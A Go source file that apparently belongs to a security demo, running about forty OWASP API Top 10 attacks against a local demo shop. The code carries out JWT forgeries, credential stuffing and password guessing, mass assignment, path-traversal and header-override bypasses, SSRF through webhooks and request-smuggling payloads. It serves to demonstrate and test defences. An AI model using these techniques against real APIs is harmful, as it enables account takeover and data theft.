package demo

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"

	"github.com/sallyport/sallyport/demo/issuer"
	"github.com/sallyport/sallyport/demo/shop"
)

// Categories of the OWASP API Security Top 10 2023.
const (
	api1 = "API1:2023 Broken Object Level Authorization"
	api2 = "API2:2023 Broken Authentication"
	api3 = "API3:2023 Broken Object Property Level Authorization"
	api4 = "API4:2023 Unrestricted Resource Consumption"
	api5 = "API5:2023 Broken Function Level Authorization"
	api6 = "API6:2023 Unrestricted Access to Sensitive Business Flows"
	api7 = "API7:2023 Server Side Request Forgery"
	api8 = "API8:2023 Security Misconfiguration"
	api9 = "API9:2023 Improper Inventory Management"
)

// attacks are all attacks of the demo.
var attacks = []*attack{
	{"order-read", "Read other customers' orders by counting up the id", api1, "orders of others", readOrders},
	{"tenant-read", "Read accounts of another organisation", api1, "accounts", readStrangers},
	{"card-read", "List other customers' payment cards", api1, "card numbers", readCards},
	{"address-write", "Send another customer's parcels elsewhere", api1, "addresses changed", writeAddress},
	{"card-delete", "Delete another customer's cards", api1, "cards deleted", deleteCards},
	{"order-billed", "Order on another customer's bill", api1, "orders billed to others", billOther},
	{"order-filter", "List others' orders by an undeclared parameter", api1, "orders of others", filterOrders},

	{"password-stuffing", "Try leaked passwords (credential stuffing)", api2, "accounts opened", stuff},
	{"password-guess", "Guess one customer's password", api2, "accounts opened", guess},
	{"token-none", "Forge a token without a signature (alg none)", api2, "accounts opened", forge(tokenNone)},
	{"token-key", "Forge a token with a key of one's own", api2, "accounts opened", forge(tokenOwnKey)},
	{"token-jwk", "Forge a token that brings its key along (jwk)", api2, "accounts opened", forge(tokenEmbedded)},
	{"token-confused", "Forge a token with the public key as HMAC secret", api2, "accounts opened", forge(tokenConfused)},
	{"token-changed", "Put another subject into one's own token", api2, "accounts opened", forge(tokenChanged)},
	{"token-issuer", "Bring a token of another issuer", api2, "accounts opened", forge(tokenIssuer)},
	{"token-audience", "Use a token made for another service", api2, "accounts opened", forge(tokenAudience)},
	{"token-expired", "Use a stolen token that has expired", api2, "accounts opened", forge(tokenExpired)},

	{"role-write", "Make oneself admin (mass assignment of role)", api3, "roles taken", takeRole},
	{"price-write", "Set the price of what one orders", api3, "orders at one's own price", setPrice},
	{"review-forge", "Write a verified review in another's name", api3, "reviews forged", forgeReview},
	{"directory-harvest", "Harvest password hashes and cards from the directory", api3, "hashes and card numbers", harvest},
	{"email-harvest", "Harvest e-mail addresses with a narrow token", api3, "e-mail addresses", harvestEmail},
	{"payment-leak", "Read keys and CVVs out of ordinary answers", api3, "secrets", readLeaks},

	{"page-size", "Ask for a page of a million", api4, "records beyond the limit", hugePage},
	{"body-size", "Send bodies of megabytes", api4, "bodies over 1 MiB taken in", hugeBody},
	{"body-depth", "Send JSON nested thousands deep", api4, "bodies taken in", deepBody},

	{"export-call", "Call the admin export as a customer", api5, "customers' records", callExport},
	{"role-call", "Give oneself a role by the admin's operation", api5, "roles taken", callRole},
	{"order-delete", "Delete and change orders as a customer", api5, "orders deleted or changed", callOrders},
	{"path-trick", "Reach the export without a token by a crooked path", api5, "exports reached", trickPath},
	{"method-override", "Delete products by a method override header", api5, "products deleted", overrideMethod},
	{"url-override", "Reach the export by X-Original-URL", api5, "exports reached", overrideURL},

	{"coupon-guess", "Guess coupon codes", api6, "coupons found", guessCoupons},
	{"webhook-fetch", "Have the shop fetch its own secrets (webhook)", api7, "secrets", fetchInside},

	{"stack-trace", "Make the shop fail and read its stack trace", api8, "traces and secrets", readTrace},
	{"sql-error", "Make the database fail and read the query", api8, "queries and secrets", readQuery},
	{"server-banner", "Learn software and machines from headers", api8, "details", readBanner},
	{"duplicate-key", "Order a negative amount by a duplicate JSON key", api8, "orders with a negative total", duplicateKey},
	{"media-type", "Make oneself admin in a body that is not JSON", api8, "roles taken", otherMedia},
	{"smuggling", "Smuggle a request in another's body", api8, "secrets", smuggle},

	{"debug-endpoint", "Find the debug endpoint", api9, "secrets", findDebug},
	{"old-version", "Use the forgotten first version", api9, "hashes and card numbers", oldVersion},
}

var (
	customerID = regexp.MustCompile(`"customer_id": ?"(usr_[0-9]{4})"`)
	hashes     = regexp.MustCompile(`\$2b\$12\$`)
	cards      = regexp.MustCompile(`\b4000[0-9]{12}\b`)
	emails     = regexp.MustCompile(`user[0-9]{4}@(acme|globex)\.example`)
	cvvs       = regexp.MustCompile(`"cvv": ?"[0-9]{3}"`)
)

// foreign counts the orders in an answer that belong to others than me.
func foreign(body []byte, me string) (n int) {
	for _, m := range customerID.FindAllSubmatch(body, -1) {
		if string(m[1]) != me {
			n++
		}
	}
	return n
}

func count(re *regexp.Regexp, b []byte) int { return len(re.FindAllIndex(b, -1)) }

// secrets counts which of the shop's secrets are in b.
func secrets(b []byte) (n int) {
	for _, s := range shop.Secrets {
		if bytes.Contains(b, []byte(s)) {
			n++
		}
	}
	return n
}

// each calls f n times, until it fails.
func each(n int, f func(i int) error) error {
	for i := range n {
		if err := f(i); err != nil {
			return err
		}
	}
	return nil
}

func readOrders(ctx context.Context, r *raid) error {
	return each(6, func(int) error {
		resp, err := r.call(ctx, "GET", "/orders/"+shop.OrderID(r.victim(), r.rng.IntN(5)), form{token: r.me.token()})
		if err == nil {
			r.gain(foreign(resp.all(), r.me.id))
		}
		return err
	})
}

func readStrangers(ctx context.Context, r *raid) error {
	return each(4, func(int) error {
		id := shop.UserID(r.stranger())
		resp, err := r.call(ctx, "GET", "/users/"+id, form{token: r.me.token()})
		if err == nil && bytes.Contains(resp.all(), []byte(`"`+id+`"`)) {
			r.gain(1)
		}
		return err
	})
}

func readCards(ctx context.Context, r *raid) error {
	return each(4, func(int) error {
		resp, err := r.call(ctx, "GET", "/users/"+shop.UserID(r.victim())+"/cards", form{token: r.me.token()})
		if err == nil {
			r.gain(count(cards, resp.all()))
		}
		return err
	})
}

func writeAddress(ctx context.Context, r *raid) error {
	return each(3, func(int) error {
		n := r.victim()
		defer r.t.shop.RestoreUser(n)
		_, err := r.call(ctx, "PUT", "/users/"+shop.UserID(n)+"/addresses/"+shop.AddressID(n), form{token: r.me.token(),
			body: map[string]any{"name": "Mallory", "street": "13 Side Street", "city": "Elsewhere", "country": "IS"}})
		if u, ok := r.t.shop.User(shop.UserID(n)); ok && u.Addresses[0].City == "Elsewhere" {
			r.gain(1)
		}
		return err
	})
}

func deleteCards(ctx context.Context, r *raid) error {
	return each(3, func(int) error {
		n := r.victim()
		defer r.t.shop.RestoreUser(n)
		u, _ := r.t.shop.User(shop.UserID(n))
		had := len(u.Cards)
		_, err := r.call(ctx, "DELETE", "/users/"+u.ID+"/cards/"+u.Cards[0].ID, form{token: r.me.token()})
		u, _ = r.t.shop.User(u.ID)
		r.gain(had - len(u.Cards))
		return err
	})
}

func billOther(ctx context.Context, r *raid) error {
	return each(3, func(int) error {
		n := r.victim()
		defer r.t.shop.RestoreUser(n)
		had := len(r.t.shop.OrdersOf(shop.UserID(n)))
		_, err := r.call(ctx, "POST", "/orders", form{token: r.me.token(), body: map[string]any{
			"customer_id": shop.UserID(n), "items": []any{map[string]any{"product_id": shop.ProductID(1), "quantity": 9}}}})
		r.gain(len(r.t.shop.OrdersOf(shop.UserID(n))) - had)
		return err
	})
}

func filterOrders(ctx context.Context, r *raid) error {
	return each(3, func(int) error {
		resp, err := r.call(ctx, "GET", "/orders?customer_id="+shop.UserID(r.victim()), form{token: r.me.token()})
		if err == nil {
			r.gain(foreign(resp.all(), r.me.id))
		}
		return err
	})
}

// perRound is how many entries of a list are tried in a round.
const perRound = 60

// tryList goes on through a list where it stopped. Told to wait, it stops: an
// attacker who is told so comes back later, with the same entry.
func (r *raid) tryList(n int, try func(i int) (status int, err error)) error {
	return each(perRound, func(int) error {
		if *r.at < 0 {
			return nil // told to wait, in this round
		}
		status, err := try(*r.at % n)
		if status == http.StatusTooManyRequests {
			*r.at = ^*r.at // remembered, and negative
		} else if err == nil {
			*r.at++
		}
		return err
	})
}

// resume takes back what tryList did to wait.
func (r *raid) resume() {
	if *r.at < 0 {
		*r.at = ^*r.at
	}
}

// logIn tries a password and counts an account that opens.
func (r *raid) logIn(ctx context.Context, email, password string) (int, error) {
	resp, err := r.call(ctx, "POST", "/login", form{body: map[string]any{"email": email, "password": password}})
	if err != nil {
		return 0, err
	}
	if resp.Status == http.StatusOK && bytes.Contains(resp.Body, []byte("access_token")) {
		r.gain(1)
	}
	return resp.Status, nil
}

// stuff tries a list of leaked pairs of address and password. As such lists
// are, most of it is stale: every thirtieth entry from the 40th on still works.
func stuff(ctx context.Context, r *raid) error {
	defer r.resume()
	const size = 600
	return r.tryList(size, func(i int) (int, error) {
		u, _ := r.t.shop.User(shop.UserID(firstVictim + i*7%(shop.FirstWeak-firstVictim)))
		password := fmt.Sprintf("leaked-%d", i)
		if i >= 40 && i%30 == 10 {
			password = u.Password
		}
		return r.logIn(ctx, u.Email, password)
	})
}

// guess tries the passwords that people think of.
func guess(ctx context.Context, r *raid) error {
	defer r.resume()
	var list []string
	for _, season := range []string{"Spring", "Summer", "Autumn", "Winter"} {
		for year := 2023; year <= 2026; year++ {
			for _, end := range []string{"", "!", "1"} {
				list = append(list, fmt.Sprint(season, year, end))
			}
		}
	}
	u, _ := r.t.shop.User(shop.UserID(shop.FirstWeak + 3))
	return r.tryList(len(list), func(i int) (int, error) { return r.logIn(ctx, u.Email, list[i]) })
}

// forge makes a token that names the victim and looks whether it opens the
// account.
func forge(make func(*raid, issuer.Claims) (string, error)) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		return each(2, func(int) error {
			p := newPerson(r.iss, r.victim(), "")
			t, err := make(r, p.claims())
			if err != nil {
				return err
			}
			resp, err := r.call(ctx, "GET", "/users/me", form{token: t})
			if err == nil && bytes.Contains(resp.all(), []byte(`"`+p.id+`"`)) {
				r.gain(1)
			}
			return err
		})
	}
}

func segment(v any) (string, error) {
	b, err := json.Marshal(v)
	return base64.RawURLEncoding.EncodeToString(b), err
}

func tokenNone(r *raid, c issuer.Claims) (string, error) {
	payload, err := segment(r.iss.Fill(c))
	if err != nil {
		return "", err
	}
	alg := []string{"none", "None", "nOnE"}[r.rng.IntN(3)]
	head, err := segment(map[string]string{"alg": alg, "typ": "at+jwt", "kid": r.iss.KeyID()})
	return head + "." + payload + ".", err
}

func tokenOwnKey(r *raid, c issuer.Claims) (string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	s, err := issuer.Signer(jose.ES256, key, r.iss.KeyID())
	if err != nil {
		return "", err
	}
	return issuer.Sign(s, r.iss.Fill(c))
}

func tokenEmbedded(r *raid, c issuer.Claims) (string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	s, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.ES256, Key: key}, (&jose.SignerOptions{EmbedJWK: true}).WithType("at+jwt"))
	if err != nil {
		return "", err
	}
	return issuer.Sign(s, r.iss.Fill(c))
}

// tokenConfused signs with HMAC and the bytes of the public key, which a
// verifier that lets the token choose the algorithm will take for its secret.
func tokenConfused(r *raid, c issuer.Claims) (string, error) {
	der, err := x509.MarshalPKIXPublicKey(r.iss.PublicKey())
	if err != nil {
		return "", err
	}
	s, err := issuer.Signer(jose.HS256, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), r.iss.KeyID())
	if err != nil {
		return "", err
	}
	return issuer.Sign(s, r.iss.Fill(c))
}

func tokenChanged(r *raid, c issuer.Claims) (string, error) {
	parts := strings.Split(r.me.token(), ".")
	if len(parts) != 3 {
		return "", errSide
	}
	payload, err := segment(r.iss.Fill(c))
	return parts[0] + "." + payload + "." + parts[2], err
}

func tokenIssuer(r *raid, c issuer.Claims) (string, error) {
	c.Issuer = "https://id.mallory.example"
	return tokenOwnKey(r, c)
}

func tokenAudience(r *raid, c issuer.Claims) (string, error) {
	c.Audience = "newsletter"
	return r.iss.Token(c)
}

func tokenExpired(r *raid, c issuer.Claims) (string, error) {
	c.Issued = time.Now().Add(-time.Hour).Unix()
	return r.iss.Token(c)
}

// tookRole counts a role that the shop has really given the attacker.
func (r *raid) tookRole() {
	if u, ok := r.t.shop.User(r.me.id); ok && u.Role != "customer" {
		r.gain(1)
	}
	r.t.shop.RestoreUser(r.me.n)
}

func takeRole(ctx context.Context, r *raid) error {
	for _, body := range []string{
		`{"name":"Mallory","role":"admin"}`,
		`{"name":"Mallory","r\u006fle":"admin"}`,
		`{"name":"Mallory","Role":"admin"}`,
	} {
		if _, err := r.call(ctx, "PATCH", "/users/me", form{token: r.me.token(), body: body}); err != nil {
			return err
		}
		r.tookRole()
	}
	return nil
}

func setPrice(ctx context.Context, r *raid) error {
	_, err := r.call(ctx, "POST", "/orders", form{token: r.me.token(), body: map[string]any{"customer_id": r.me.id,
		"items": []any{map[string]any{"product_id": shop.ProductID(7), "quantity": 5, "price": 0.01}}}})
	for _, o := range r.t.shop.OrdersOf(r.me.id) {
		if o.Total > 0 && o.Total < 0.1 {
			r.gain(1)
		}
	}
	r.t.shop.RestoreUser(r.me.n)
	return err
}

func forgeReview(ctx context.Context, r *raid) error {
	resp, err := r.call(ctx, "POST", "/products/"+shop.ProductID(r.rng.IntN(100))+"/reviews", form{token: r.me.token(),
		body: map[string]any{"stars": 1, "text": "It broke.", "author": "Ada Lovelace", "verified": true}})
	if err == nil && resp.Status == http.StatusCreated && bytes.Contains(resp.Body, []byte("Lovelace")) {
		r.gain(1)
	}
	return err
}

func harvest(ctx context.Context, r *raid) error {
	return each(2, func(i int) error {
		resp, err := r.call(ctx, "GET", fmt.Sprintf("/users?per_page=50&page=%d", 2+i), form{token: r.me.token()})
		if err == nil {
			r.gain(count(hashes, resp.all()) + count(cards, resp.all()))
		}
		return err
	})
}

// harvestEmail uses a token with the scope of a telephone list.
func harvestEmail(ctx context.Context, r *raid) error {
	r.me.scope = "directory:read"
	resp, err := r.call(ctx, "GET", "/users?per_page=50", form{token: r.me.token()})
	if err == nil {
		r.gain(count(emails, resp.all()))
	}
	return err
}

func readLeaks(ctx context.Context, r *raid) error {
	for _, path := range []string{"/cart", "/users/" + r.me.id + "/cards", "/orders/" + shop.OrderID(r.me.n, 0)} {
		resp, err := r.call(ctx, "GET", path, form{token: r.me.token()})
		if err != nil {
			return err
		}
		r.gain(secrets(resp.Body) + count(cvvs, resp.Body))
	}
	resp, err := r.call(ctx, "POST", "/orders/"+shop.OrderID(r.me.n, 1)+"/payment", form{token: r.me.token(),
		body: map[string]any{"card_number": "4111111111111111", "expiry": "07/29", "cvv": "123"}})
	if err == nil {
		r.gain(secrets(resp.Body) + count(cvvs, resp.Body))
	}
	return err
}

func hugePage(ctx context.Context, r *raid) error {
	resp, err := r.call(ctx, "GET", "/users?per_page=1000000", form{token: r.me.token()})
	if err != nil {
		return err
	}
	var v struct{ Items []json.RawMessage }
	if json.Unmarshal(resp.Body, &v) == nil && len(v.Items) > 100 {
		r.gain(len(v.Items) - 100)
	}
	return nil
}

func hugeBody(ctx context.Context, r *raid) error {
	r.t.shop.Largest()
	_, err := r.call(ctx, "PATCH", "/users/me", form{token: r.me.token(), body: `{"preferences":{"x":"` + strings.Repeat("x", 4<<20) + `"}}`})
	if r.t.shop.Largest() > 1<<20 {
		r.gain(1)
	}
	return err
}

func deepBody(ctx context.Context, r *raid) error {
	const depth = 9000
	resp, err := r.call(ctx, "PATCH", "/users/me", form{token: r.me.token(),
		body: `{"preferences":{"x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}}`})
	if err == nil && resp.Status == http.StatusOK {
		r.gain(1)
	}
	return err
}

func callExport(ctx context.Context, r *raid) error {
	resp, err := r.call(ctx, "GET", "/admin/export", form{token: r.me.token()})
	if err == nil {
		r.gain(foreign(resp.all(), r.me.id))
	}
	return err
}

func callRole(ctx context.Context, r *raid) error {
	_, err := r.call(ctx, "PUT", "/admin/users/"+r.me.id+"/role", form{token: r.me.token(), body: map[string]any{"role": "admin"}})
	r.tookRole()
	return err
}

func callOrders(ctx context.Context, r *raid) error {
	n := r.victim()
	defer r.t.shop.RestoreUser(n)
	if _, err := r.call(ctx, "DELETE", "/orders/"+shop.OrderID(n, 0), form{token: r.me.token()}); err != nil {
		return err
	}
	if _, ok := r.t.shop.Order(shop.OrderID(n, 0)); !ok {
		r.gain(1)
	}
	_, err := r.call(ctx, "PATCH", "/orders/"+shop.OrderID(n, 1), form{token: r.me.token(), body: map[string]any{"status": "cancelled"}})
	if o, ok := r.t.shop.Order(shop.OrderID(n, 1)); ok && o.Status == "cancelled" {
		r.gain(1)
	}
	return err
}

// crooked are paths that begin where no token is asked for and end at the
// export, for a server that reads them as the shop does.
var crooked = []string{
	"/v2/products/../admin/export",
	"/v2/products/%2e%2e/admin/export",
	"/v2/products/.%2E/admin/export",
	"/v2/products/%2e%2e%2fadmin%2fexport",
	"/v2/products/%252e%252e/admin/export",
	"/v2/products/..%5cadmin%5cexport",
	"/v2/products/..;/admin/export",
	"/v2/products/x;/..;a=b/../admin/export",
	"/v2/products//..//../admin///export",
	"/v2/products/./../admin/./export",
	`/v2/products\..\admin\export`,
}

func trickPath(ctx context.Context, r *raid) error {
	for _, p := range crooked {
		resp, err := r.raw(ctx, "GET "+p+" HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n")
		if err != nil {
			return err
		}
		if foreign(resp.all(), "") > 0 {
			r.gain(1)
		}
	}
	return nil
}

func overrideMethod(ctx context.Context, r *raid) error {
	return each(2, func(i int) error {
		n := 110 + i
		defer r.t.shop.RestoreProduct(n)
		_, err := r.call(ctx, "GET", "/products/"+shop.ProductID(n), form{header: http.Header{"X-Http-Method-Override": {"DELETE"}}})
		if !r.t.shop.HasProduct(shop.ProductID(n)) {
			r.gain(1)
		}
		return err
	})
}

func overrideURL(ctx context.Context, r *raid) error {
	for _, h := range []string{"X-Original-Url", "X-Rewrite-Url"} {
		resp, err := r.call(ctx, "GET", "/products", form{header: http.Header{h: {"/v2/admin/export"}}})
		if err != nil {
			return err
		}
		if foreign(resp.all(), "") > 0 {
			r.gain(1)
		}
	}
	return nil
}

func guessCoupons(ctx context.Context, r *raid) error {
	defer r.resume()
	return r.tryList(900, func(i int) (int, error) {
		resp, err := r.call(ctx, "GET", fmt.Sprintf("/coupons/VIP%03d", 100+i), form{token: r.me.token()})
		if err != nil {
			return 0, err
		}
		if resp.Status == http.StatusOK && bytes.Contains(resp.Body, []byte("percent")) {
			r.gain(1)
		}
		return resp.Status, nil
	})
}

func fetchInside(ctx context.Context, r *raid) error {
	for _, u := range []string{r.t.inside + "/internal/config", strings.Replace(r.t.inside, "127.0.0.1", "127.1.1.1", 1) + "/internal/config"} {
		resp, err := r.call(ctx, "POST", "/webhooks", form{token: r.me.token(), body: map[string]any{"url": u}})
		if err != nil {
			return err
		}
		r.gain(secrets(resp.Body))
	}
	return nil
}

func readTrace(ctx context.Context, r *raid) error {
	resp, err := r.call(ctx, "GET", "/orders/ord_999999", form{token: r.me.token()})
	if err == nil {
		r.gain(secrets(resp.Body))
		if bytes.Contains(resp.Body, []byte("goroutine ")) || bytes.Contains(resp.Body, []byte(".go:")) {
			r.gain(1)
		}
	}
	return err
}

func readQuery(ctx context.Context, r *raid) error {
	resp, err := r.call(ctx, "GET", "/products?sort=price%27", form{})
	if err == nil {
		r.gain(secrets(resp.Body))
		if bytes.Contains(resp.Body, []byte("SELECT ")) {
			r.gain(1)
		}
	}
	return err
}

func readBanner(ctx context.Context, r *raid) error {
	for _, path := range []string{"/health", "/products/" + shop.ProductID(3), "/products/prd_9999"} {
		resp, err := r.call(ctx, "GET", path, form{})
		if err != nil {
			return err
		}
		for _, detail := range []string{"shop-api/", "shop-framework", shop.Backend} {
			if bytes.Contains(resp.all(), []byte(detail)) {
				r.gain(1)
			}
		}
	}
	return nil
}

func duplicateKey(ctx context.Context, r *raid) error {
	for _, again := range []string{`"quantity":-50`, `"quantit\u0079":-50`} {
		_, err := r.call(ctx, "POST", "/orders", form{token: r.me.token(),
			body: `{"customer_id":"` + r.me.id + `","items":[{"product_id":"prd_0001","quantity":1,` + again + `}]}`})
		if err != nil {
			return err
		}
		for _, o := range r.t.shop.OrdersOf(r.me.id) {
			if o.Total < 0 {
				r.gain(1)
			}
		}
		r.t.shop.RestoreUser(r.me.n)
	}
	return nil
}

func otherMedia(ctx context.Context, r *raid) error {
	for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "application/json, text/plain", "application/octet-stream"} {
		if _, err := r.call(ctx, "PATCH", "/users/me", form{token: r.me.token(), kind: kind, body: `{"role":"admin"}`}); err != nil {
			return err
		}
		r.tookRole()
	}
	return nil
}

// smuggle hides a request for the debug endpoint behind one that ends in two
// places, depending on which header is believed.
func smuggle(ctx context.Context, r *raid) error {
	const hidden = "GET /internal/config HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n"
	for _, framing := range []string{
		"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n",
		"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n",
		"Content-Length: %d\r\nTransfer-Encoding: Chunked\r\n",
		"Content-Length: %d\r\nTransfer-Encoding : chunked\r\n",
		"Content-Length: 0\r\nContent-Length: %d\r\n",
		"Content-Length: %d\r\nTransfer-Encoding:\tchunked\r\n",
	} {
		// HOST is as long as what takes its place only by chance; the length
		// is that of the message as it is sent.
		host := strings.TrimPrefix(r.t.base, "http://")
		body := "0\r\n\r\n" + strings.ReplaceAll(hidden, "HOST", host)
		resp, err := r.raw(ctx, "POST /v2/newsletter HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/x-www-form-urlencoded\r\n"+
			fmt.Sprintf(framing, len(body))+"\r\n"+body)
		if err != nil {
			return err
		}
		r.gain(secrets(resp.all()))
	}
	return nil
}

func findDebug(ctx context.Context, r *raid) error {
	for _, p := range []string{"!/internal/config", "!/debug/env", "/debug/env", "!/debug/vars", "!/.env", "!/actuator/env"} {
		resp, err := r.call(ctx, "GET", p, form{})
		if err != nil {
			return err
		}
		r.gain(secrets(resp.Body))
	}
	return nil
}

func oldVersion(ctx context.Context, r *raid) error {
	for _, p := range []string{"!/v1/users?per_page=50&page=4", "!/v1/orders/" + shop.OrderID(r.victim(), 0), "!/V1/users"} {
		resp, err := r.call(ctx, "GET", p, form{})
		if err != nil {
			return err
		}
		r.gain(count(hashes, resp.Body) + count(cards, resp.Body))
	}
	return nil
}
